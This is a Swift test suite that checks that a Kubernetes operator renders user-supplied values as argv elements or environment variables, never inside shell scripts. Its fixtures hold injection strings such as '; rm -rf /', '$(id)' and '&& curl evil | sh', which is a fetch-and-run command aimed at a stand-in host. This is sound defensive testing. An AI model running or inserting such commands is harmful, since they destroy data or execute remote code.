import AgriPlatformAPI
import AgriPlatformRender
import KubeCore
import Testing

/// Values a user controls reach pods as argv elements or environment variables, never as text inside a script the
/// operator hands to `sh -c`.
@Suite("Hostile values in rendered workloads")
struct HostileValueRenderTests {
    static let command = ["/app", "--name=$(id)", "; rm -rf /", "`whoami`", "a | b > c", "'\"\\"]

    static var platform: AgriPlatform {
        var api = PlatformService(name: "api", image: "ghcr.io/example/api:1")
        api.command = command
        api.args = ["&& curl evil | sh"]
        api.uses = ["db", "queue", "cache"]
        var db = Datastore(name: "db", engine: .postgreSQL)
        var backup = BackupSpec(window: "03:00-04:00", retentionDays: 7)
        var s3 = S3BackupTarget(bucket: "canary-bucket")
        s3.prefix = "canary/prefix"
        s3.endpoint = "http://canary-endpoint:9000"
        s3.region = "canary-1"
        s3.secretName = "canary-secret"
        backup.s3 = s3
        db.backup = backup
        var queue = Datastore(name: "queue", engine: .rabbitMQ)
        queue.backup = BackupSpec(schedule: "15 2 * * *")
        var cache = Datastore(name: "cache", engine: .redis)
        cache.backup = BackupSpec(schedule: "@daily")
        return AgriPlatform(
            metadata: ObjectMeta(name: "p", namespace: "ns"),
            spec: AgriPlatformSpec(services: [api], datastores: [db, queue, cache])
        )
    }

    static func containers(of object: DynamicObject) -> [JSONValue] {
        let pod: JSONValue? =
            object.kind == "CronJob"
            ? object.json[path: ["spec", "jobTemplate", "spec", "template", "spec"]]
            : object.json[path: ["spec", "template", "spec"]]
        return (pod?["containers"]?.arrayValue ?? []) + (pod?["initContainers"]?.arrayValue ?? [])
    }

    @Test("The service's command and args are passed verbatim as argv elements")
    func commandIsArgv() throws {
        #expect(Self.platform.validate() == [])
        let objects = try PlatformRenderer().render(Self.platform)
        let deployment = try #require(objects.first { $0.kind == "Deployment" && $0.name == "p-api" })
        let container = try #require(Self.containers(of: deployment).first)
        #expect(container["command"] == .array(Self.command.map { .string($0) }))
        #expect(container["args"] == ["&& curl evil | sh"])
    }

    @Test("No script given to a shell contains a user's value; backup settings travel as environment variables")
    func scriptsHoldNoUserValues() throws {
        let objects = try PlatformRenderer().render(Self.platform)
        let cronJobs = objects.filter { $0.kind == "CronJob" }
        #expect(cronJobs.count == 3)
        var environmentValues: Set<String> = []
        var scripts = 0
        for object in objects {
            for container in Self.containers(of: object) {
                let command = (container["command"]?.arrayValue ?? []).compactMap(\.stringValue)
                if object.name != "p-api", let flag = command.firstIndex(of: "-c"), flag + 1 < command.count {
                    scripts += 1
                    #expect(!command[flag + 1].contains("canary"), "\(object.name ?? ""): \(command[flag + 1])")
                }
                for variable in container["env"]?.arrayValue ?? [] {
                    if let value = variable["value"]?.stringValue { environmentValues.insert(value) }
                }
            }
        }
        #expect(scripts >= 3)
        for value in ["canary-bucket", "canary/prefix", "http://canary-endpoint:9000", "canary-1"] {
            #expect(environmentValues.contains(value), "\(value) is not an environment value")
        }
    }
}
